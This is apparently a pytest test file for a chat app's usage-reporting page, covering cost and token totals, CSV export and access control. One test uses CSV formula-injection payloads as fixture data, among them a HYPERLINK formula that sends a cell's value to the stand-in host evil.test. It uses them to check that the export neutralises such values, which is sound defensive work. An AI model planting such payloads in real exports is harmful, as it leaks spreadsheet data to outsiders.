"""Settings → Usage: the figures match the stored replies exactly, CSV, who may see it."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

from bs4 import BeautifulSoup
from sqlalchemy import func, select

from monark.chat.models import Conversation, Message, MessageRole, ToolCall
from monark.chat.turn.start import SendInput, send_message
from monark.extensions import db
from monark.settings import usage
from tests.llm_script import Call, Say
from tests.tuning import configure


def _talk(world, scripted, role: str, n: int) -> None:
    for i in range(n):
        scripted.script.add(
            [Say("Looking."), Call("records_list", {"model": "tasks", "limit": 2})],
            [Say(f"Done {i}.")],
        )
        assert send_message(world.a.principal(role), SendInput(text=f"List {i}")).status == "done"


def _stored_sums(org_id: int, user_id: int | None = None):
    query = select(
        func.count(),
        func.sum(Message.input_tokens),
        func.sum(Message.output_tokens),
        func.sum(Message.cache_read_tokens),
        func.sum(Message.cache_creation_tokens),
        func.sum(Message.cost),
    ).where(
        Message.org_id == org_id, Message.role.in_([MessageRole.ASSISTANT, MessageRole.SUMMARY])
    )
    if user_id is not None:
        query = query.join(Conversation, Conversation.id == Message.conversation_id).where(
            Conversation.creator_id == user_id
        )
    return db.session.execute(query).one()


def test_the_figures_match_the_stored_replies_exactly(app, world, scripted, monkeypatch):
    configure(monkeypatch, app, CHAT_LLM_MODEL="claude-sonnet-4-5")
    _talk(world, scripted, "member", 2)
    _talk(world, scripted, "admin", 1)
    admin = world.a.principal("admin")
    report = usage.report(admin, 30)
    count, inp, out, read, write, cost = _stored_sums(world.a.org.id)
    t = report.totals
    assert (t.replies, t.input_tokens, t.output_tokens) == (count, inp, out)
    assert (t.cache_read_tokens, t.cache_write_tokens, t.cost) == (read, write, cost)
    assert isinstance(t.cost, Decimal) and t.cost > 0
    daily = report.table("daily")
    assert len(daily.rows) == 30
    assert sum(row[6] for row in daily.rows) == cost  # the cost column, summed
    users = {row[0]: row for row in report.table("users").rows}
    member = world.a.users["member"]
    m_count, *_rest, m_cost = _stored_sums(world.a.org.id, member.id)
    assert users[member.name][1] == m_count and users[member.name][6] == m_cost
    tools = report.table("tools")
    stored_calls = db.session.scalar(
        select(func.count()).select_from(ToolCall).where(ToolCall.org_id == world.a.org.id)
    )
    assert tools.columns == ["Tool", "SUCCEEDED"]
    assert sum(row[1] for row in tools.rows) == stored_calls == 3
    # A member's own usage (their profile) is theirs alone.
    own = usage.report(world.a.principal("member"), 90, own=True)
    assert own.totals.replies == m_count and own.totals.cost == m_cost
    assert "users" not in {t.key for t in own.tables}
    # The other org sees none of it.
    assert usage.report(world.b.principal("admin"), 30).totals.replies == 0


def test_the_page_and_its_csv(app, world, scripted, monkeypatch, login):
    configure(monkeypatch, app, CHAT_LLM_MODEL="claude-sonnet-4-5")
    _talk(world, scripted, "member", 1)
    browser = login("admin@acme.test")
    page = browser.get("/settings/usage?days=90")
    assert page.status_code == 200
    soup = BeautifulSoup(page.get_data(as_text=True), "html.parser")
    for key in ("daily", "models", "users", "tools"):
        assert soup.select_one(f"#chart-{key}") is not None
        assert soup.select_one(f'table[data-usage-table="{key}"]') is not None
    charts = json.loads(soup.select_one("#usage-data")["data-charts"])
    assert [c["key"] for c in charts] == ["daily", "models", "users", "tools"]
    assert all(script.get("src") for script in soup.select("script"))
    answer = browser.get("/settings/usage.csv?days=30&table=models")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    assert rows[0][:2] == ["Model", "Replies"]
    count, *_rest, cost = _stored_sums(world.a.org.id)
    assert rows[1][0] == "scripted · claude-sonnet-4-5" and int(rows[1][1]) == count
    assert Decimal(rows[1][6]) == cost
    assert browser.get("/settings/usage?days=7").status_code == 400


def test_the_csv_keeps_names_that_look_like_formulas_as_text(
    app, world, scripted, monkeypatch, login
):
    """A member's name or a tool name the model made up, opened in a spreadsheet, is text:
    never a formula that sends the sheet's figures somewhere."""
    configure(monkeypatch, app, CHAT_LLM_MODEL="claude-sonnet-4-5")
    member = world.a.users["member"]
    member.name = '=HYPERLINK("http://evil.test/?"&B2,"details")'
    db.session.commit()
    scripted.script.add(
        [Say("Looking."), Call("@SUM(1+1)*cmd", {})],
        [Say("Done.")],
    )
    assert send_message(world.a.principal("member"), SendInput(text="Go")).status == "done"
    browser = login("admin@acme.test")
    users = browser.get("/settings/usage.csv?days=30&table=users").get_data(as_text=True)
    names = [row[0] for row in csv.reader(io.StringIO(users))][1:]
    assert names == ["'" + member.name]
    tools = browser.get("/settings/usage.csv?days=30&table=tools").get_data(as_text=True)
    assert [row[0] for row in csv.reader(io.StringIO(tools))][1:] == ["'@SUM(1+1)*cmd"]
    # Figures stay numbers, and the page shows the names as they are.
    assert all(row[1].isdigit() for row in list(csv.reader(io.StringIO(users)))[1:])
    page = BeautifulSoup(browser.get("/settings/usage").get_data(as_text=True), "html.parser")
    assert member.name in page.select_one('table[data-usage-table="users"]').get_text()


def test_members_cannot_see_the_orgs_usage_but_see_their_own(
    app, world, scripted, monkeypatch, login
):
    configure(monkeypatch, app, CHAT_LLM_MODEL="claude-sonnet-4-5")
    _talk(world, scripted, "admin", 1)
    member = login("member@acme.test")
    assert member.get("/settings/usage").status_code == 403
    assert member.get("/settings/usage.csv").status_code == 403
    profile = member.get("/profile")
    assert profile.status_code == 200 and "Your usage" in profile.get_data(as_text=True)
    mine = list(csv.reader(io.StringIO(member.get("/profile/usage.csv").get_data(as_text=True))))
    assert all(row[1] == "0" for row in mine[1:])  # the admin's replies are not the member's


def test_settled_days_tool_calls_are_kept_once_and_count_the_same(
    app, world, scripted, monkeypatch
):
    from datetime import timedelta

    from monark.core.models import utcnow
    from monark.settings.models import ToolDay

    configure(monkeypatch, app, CHAT_LLM_MODEL="claude-sonnet-4-5")
    _talk(world, scripted, "member", 3)
    calls = list(db.session.scalars(select(ToolCall).where(ToolCall.org_id == world.a.org.id)))
    # Two calls from a settled day, one from last week (still counted live).
    calls[0].created_at = utcnow() - timedelta(days=40)
    calls[1].created_at = utcnow() - timedelta(days=40)
    calls[2].created_at = utcnow() - timedelta(days=5)
    calls[1].status = "FAILED"
    db.session.commit()
    admin = world.a.principal("admin")
    first = usage.report(admin, 90).table("tools")
    kept = db.session.scalar(select(func.count()).select_from(ToolDay))
    assert kept > 0
    again = usage.report(admin, 90).table("tools")
    assert db.session.scalar(select(func.count()).select_from(ToolDay)) == kept
    assert first.columns == again.columns == ["Tool", "FAILED", "SUCCEEDED"]
    assert first.rows == again.rows == [["records_list", 1, 2]]
    assert usage.report(admin, 30).table("tools").rows == [["records_list", 1]]


def test_the_tables_show_dollars_and_counts_as_people_read_them(
    app, world, scripted, monkeypatch, login
):
    from monark.core.money import money_text

    configure(monkeypatch, app, CHAT_LLM_MODEL="claude-sonnet-4-5")
    _talk(world, scripted, "member", 1)
    _count, inp, *_rest, cost = _stored_sums(world.a.org.id)
    browser = login("admin@acme.test")
    soup = BeautifulSoup(browser.get("/settings/usage").get_data(as_text=True), "html.parser")
    row = soup.select_one('table[data-usage-table="models"] tbody tr')
    cells = [c.get_text() for c in row.select("th, td")]
    assert cells[6] == money_text(cost) and cells[6].startswith("$")
    assert cells[2] == f"{inp:,}"
    # The CSV keeps the exact amount, without the zeros its column pads it with.
    answer = browser.get("/settings/usage.csv?table=models").get_data(as_text=True)
    exported = list(csv.reader(io.StringIO(answer)))[1]
    assert exported[6] == f"{cost.normalize():f}" and Decimal(exported[6]) == cost
    assert exported[2] == str(inp)
    # Each CSV link says which table it exports.
    names = [a.get_text(" ", strip=True) for a in soup.select(".usage-figure a[download]")]
    assert len(set(names)) == len(names) == 4


def test_with_no_reply_yet_no_empty_chart_is_drawn(world, login):
    soup = BeautifulSoup(
        login("admin@acme.test").get("/settings/usage").get_data(as_text=True), "html.parser"
    )
    assert soup.select("canvas") == []
    assert "Nothing in this period" in soup.select_one('[data-usage-table="models"]').get_text()
